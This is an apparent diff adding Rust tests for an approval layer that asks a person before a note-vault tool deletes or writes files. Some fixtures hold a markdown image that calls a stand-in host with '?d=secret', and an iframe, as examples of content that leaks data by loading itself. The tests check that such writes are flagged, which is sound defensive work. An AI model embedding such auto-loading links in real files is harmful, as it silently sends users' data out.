@@ -1,0 +1,175 @@
+//! What a person is asked, and what comes of their answers.
+
+use serde_json::{Value, json};
+use vault_steward::calls::{Calls, Decision, Outcome, Question, Request};
+use vault_steward::note::code::ErrorCode;
+use vault_steward::policy::{Mode, Scope, Settings};
+use vault_steward::vault::Cancel;
+
+use crate::doors::{answered, audited, calls, request};
+use crate::vault::{TestVault, vault};
+
+fn ground() -> TestVault {
+    vault(&[
+        ("Old/a.md", "a\n"),
+        ("Old/b.md", "b\n"),
+        ("Inbox/x.md", "x\n"),
+        ("Inbox/y.md", "y\n"),
+        ("note.md", "note\n"),
+    ])
+}
+
+#[track_caller]
+fn asked(calls: &Calls, tool: &str, arguments: Value) -> Question {
+    match calls.call(request(Scope::Client, tool, arguments), &Cancel::default()) {
+        Outcome::Ask(question) => *question,
+        Outcome::Answered(result) => panic!("not asked: {result:?}"),
+    }
+}
+
+fn say(question: Question, decision: Decision) -> Outcome {
+    question.answer(decision, "chat".to_owned(), &Cancel::default())
+}
+
+#[test]
+fn a_folder_is_deleted_when_a_person_says_so_and_not_before() {
+    let vault = ground();
+    let calls = calls(&vault, Settings::default());
+    let question = || asked(&calls, "delete", json!({"path": "old"}));
+    for decision in [Decision::Reject, Decision::Nobody, Decision::Late, Decision::Withdrawn] {
+        let first = question();
+        assert_eq!(first.title(), "delete `Old`");
+        assert_eq!(first.reasons(), ["it deletes the folder `Old` with 2 files"]);
+        assert_eq!(audited(&calls).last().unwrap().decision, "asked");
+        let error = answered(say(first, decision)).unwrap_err();
+        let wanted = match decision {
+            Decision::Withdrawn => ErrorCode::Cancelled,
+            _ => ErrorCode::Denied,
+        };
+        assert_eq!(error.code, wanted);
+        assert!(vault.exists("Old/a.md"), "{decision:?}");
+        let row = audited(&calls).pop().unwrap();
+        assert_eq!(row.decision, "refused");
+        assert_eq!(row.answered_by.is_some(), decision == Decision::Reject);
+    }
+    answered(say(question(), Decision::Once)).unwrap();
+    assert!(!vault.exists("Old/a.md"));
+    let row = audited(&calls).pop().unwrap();
+    assert_eq!((row.decision.as_str(), row.answered_by.as_deref()), ("allowed", Some("chat")));
+    assert!(row.change_set.is_some());
+}
+
+#[test]
+fn agreement_is_to_what_was_shown_and_to_nothing_else() {
+    let vault = ground();
+    let calls = calls(&vault, Settings { mode: Mode::Ask, ..Settings::default() });
+    let edit = json!({"path": "note", "old_text": "note", "new_text": "changed"});
+    let question = asked(&calls, "edit_file", edit);
+    let diff = &question.changes()[0].diff;
+    assert!(diff.contains("-note\n+changed"), "{diff}");
+    vault.put("note.md", "note, and what the person typed since\n");
+    let error = answered(say(question, Decision::Once)).unwrap_err();
+    assert_eq!(error.code, ErrorCode::StaleRevision);
+    assert!(vault.content("note.md").starts_with("note, and"));
+
+    let question = asked(&calls, "delete", json!({"path": "Old"}));
+    vault.put("Old/c.md", "new");
+    vault.context.vault.rescan().unwrap();
+    answered(say(question, Decision::Once)).unwrap_err();
+    assert!(vault.exists("Old/a.md"));
+}
+
+#[test]
+fn always_holds_for_that_tool_in_that_folder_until_it_is_taken_back() {
+    let vault = ground();
+    let settings = Settings { mode: Mode::Ask, ..Settings::default() };
+    let calls = calls(&vault, settings.clone());
+    let write = |path: &str| json!({"path": path, "content": "new"});
+    let question = asked(&calls, "write_file", write("Inbox/x.md"));
+    assert_eq!(question.folder(), Some("Inbox"));
+    answered(say(question, Decision::Always)).unwrap();
+    let later = self::calls(&vault, settings);
+    let free = request(Scope::Client, "write_file", write("inbox/y"));
+    answered(later.call(free, &Cancel::default())).unwrap();
+    assert_eq!(vault.content("Inbox/y.md"), "new");
+    asked(&later, "write_file", write("Inbox2/x.md"));
+    asked(&later, "write_file", write("note.md"));
+    asked(&later, "delete", json!({"path": "Inbox/x.md"}));
+    asked(&later, "move", json!({"source": "Inbox/x.md", "destination": "out.md"}));
+    let kept = later.agreements().unwrap();
+    assert_eq!((kept[0].tool.as_str(), kept[0].agreed_by.as_str()), ("write_file", "chat"));
+    assert!(calls.revoke(kept[0].id).unwrap());
+    asked(&later, "write_file", write("Inbox/y.md"));
+}
+
+#[test]
+fn what_lies_at_the_top_or_loads_by_itself_is_never_agreed_to_for_good() {
+    let vault = ground();
+    let calls = calls(&vault, Settings { mode: Mode::Ask, ..Settings::default() });
+    let top = asked(&calls, "write_file", json!({"path": "note.md", "content": "new"}));
+    assert_eq!(top.folder(), None);
+    let remote = "![](http://127.0.0.1:9/?d=secret)";
+    let inside = json!({"path": "Inbox/x.md", "content": remote});
+    let question = asked(&calls, "write_file", inside.clone());
+    assert_eq!(question.folder(), None);
+    answered(say(question, Decision::Always)).unwrap();
+    assert!(calls.agreements().unwrap().is_empty());
+    assert!(vault.content("Inbox/x.md").contains(remote), "once is once");
+}
+
+#[test]
+fn what_loads_by_itself_is_asked_about_in_the_usual_mode() {
+    let vault = ground();
+    let calls = calls(&vault, Settings::default());
+    let remote = "text\n![](http://127.0.0.1:9/?d=secret)\n";
+    let before = vault.snapshot();
+    for (tool, arguments) in [
+        ("write_file", json!({"path": "new.md", "content": remote})),
+        ("edit_file", json!({"path": "note", "old_text": "note", "new_text": remote})),
+        (
+            "apply_patch",
+            json!({"patch": "--- a/note.md\n+++ b/note.md\n@@ -1 +1 @@\n-note\n+<iframe src=\"http://x\">\n"}),
+        ),
+    ] {
+        let question = asked(&calls, tool, arguments);
+        assert!(question.reasons()[0].contains("loads or runs by itself"));
+        answered(say(question, Decision::Nobody)).unwrap_err();
+    }
+    assert_eq!(vault.snapshot(), before);
+    let person = request(Scope::Person, "write_file", json!({"path": "n.md", "content": remote}));
+    answered(calls.call(person, &Cancel::default())).unwrap();
+}
+
+#[test]
+fn a_persons_program_asks_by_itself_and_says_that_they_agreed() {
+    let vault = ground();
+    let calls = calls(&vault, Settings::default());
+    let delete = || request(Scope::Person, "delete", json!({"path": "Old"}));
+    let error = answered(calls.call(delete(), &Cancel::default())).unwrap_err();
+    assert_eq!(error.code, ErrorCode::ApprovalNeeded);
+    assert_eq!(error.data.unwrap()["changes"][0]["path"], "Old");
+    assert!(vault.exists("Old/a.md"));
+    let agreed = Request { confirmed: true, ..delete() };
+    answered(calls.call(agreed, &Cancel::default())).unwrap();
+    assert!(!vault.exists("Old/a.md"));
+    for scope in [Scope::Client, Scope::Mcp, Scope::Voice] {
+        let claims =
+            Request { confirmed: true, ..request(scope, "delete", json!({"path": "Inbox"})) };
+        answered(calls.call(claims, &Cancel::default())).unwrap_err();
+        assert!(vault.exists("Inbox/x.md"), "{scope:?}");
+    }
+}
+
+#[test]
+fn what_was_asked_when_the_steward_ended_is_refused_at_the_next_start() {
+    let vault = ground();
+    let settings = Settings::default();
+    drop(asked(&calls(&vault, settings.clone()), "delete", json!({"path": "Old"})));
+    let next = calls(&vault, settings);
+    next.begin().unwrap();
+    let row = audited(&next).pop().unwrap();
+    assert_eq!(row.decision, "refused");
+    assert_eq!(row.reason.as_deref(), Some("the steward ended before anyone answered"));
+    assert!(vault.exists("Old/a.md"));
+    next.end();
+}
